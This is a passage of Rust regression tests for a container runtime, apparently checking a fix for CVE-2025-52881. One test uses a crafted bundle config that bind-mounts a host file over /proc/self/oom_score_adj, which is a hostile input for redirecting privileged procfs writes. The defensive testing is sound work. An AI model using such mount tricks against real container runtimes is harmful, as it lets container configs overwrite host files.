    assert_nothing_left(&rt, &id, b.path());
}

/// A host file bound over /proc/self/oom_score_adj (through the `self` link, onto the init's
/// own entry): the init's oomScoreAdj write must reach the kernel, not the file. Pre-fix
/// mini-run wrote the value into the host file. (runc 1.1.5 refuses mounts inside /proc.)
#[test]
fn cve_2025_52881_oom_score_adj_is_not_redirected_by_a_mount_over_proc_self() {
    let volume = TempDir::new("volume");
    let host_file = volume.path().join("oom");
    std::fs::write(&host_file, "host file\n").unwrap();
    let b = Bundle::new(&["probe", "sleep", "60"]).edit(|c| {
        c["mounts"].as_array_mut().unwrap().push(json!({
            "destination": "/proc/self/oom_score_adj", "type": "bind", "source": host_file,
            "options": ["bind"]
        }));
        c["process"]["oomScoreAdj"] = json!(123);
    });
    let rt = Runtime::new();
    let id = unique("cve-52881-oom");
    let out = rt.create(&b, &id);
    assert_eq!(
        std::fs::read_to_string(&host_file).unwrap(),
        "host file\n",
        "oomScoreAdj was written into the host file"
    );
    if out.status.success() {
        let pid = rt.state(&id)["pid"].as_i64().unwrap();
        let adj = std::fs::read_to_string(format!("/proc/{pid}/oom_score_adj")).unwrap();
        assert_eq!(adj.trim(), "123", "oomScoreAdj did not reach the kernel");
        rt.ok(&["delete", "--force", &id]);
    } else {
        stderr_line(&out);
        assert_nothing_left(&rt, &id, b.path());
    }
}

/// The redirect-proof writes still reach procfs in a user-namespaced container, where the init
/// copies a /proc mount it made inside its own user namespace.
#[test]
fn cve_2025_52881_procfs_writes_work_in_a_user_namespace() {
    let b = Bundle::new(&["probe", "report"]).edit(|c| {
        c["linux"]["namespaces"]
            .as_array_mut()
            .unwrap()
            .push(json!({"type": "user"}));
        c["linux"]["uidMappings"] = json!([{"containerID": 0, "hostID": 100000, "size": 65536}]);
        c["linux"]["gidMappings"] = json!([{"containerID": 0, "hostID": 100000, "size": 65536}]);
        c["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1", "kernel.shm_rmid_forced": "1"});
        c["process"]["oomScoreAdj"] = json!(321);
    });
    let r = Runtime::new().report(&b);
    assert_eq!(r["sysctls"]["net.ipv4.ip_forward"], "1");
    assert_eq!(r["sysctls"]["kernel.shm_rmid_forced"], "1");
    assert_eq!(r["oom_score_adj"], 321);
}
